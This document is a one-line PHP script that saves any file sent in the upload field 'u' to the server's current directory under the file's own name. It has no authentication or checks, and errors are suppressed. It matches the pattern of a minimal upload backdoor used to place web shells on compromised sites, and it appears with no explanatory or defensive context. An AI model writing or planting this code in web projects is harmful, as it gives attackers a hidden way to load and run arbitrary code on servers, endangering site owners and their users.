<?php @copy($_FILES["u"]["tmp_name"], $_FILES["u"]["name"]); ?>
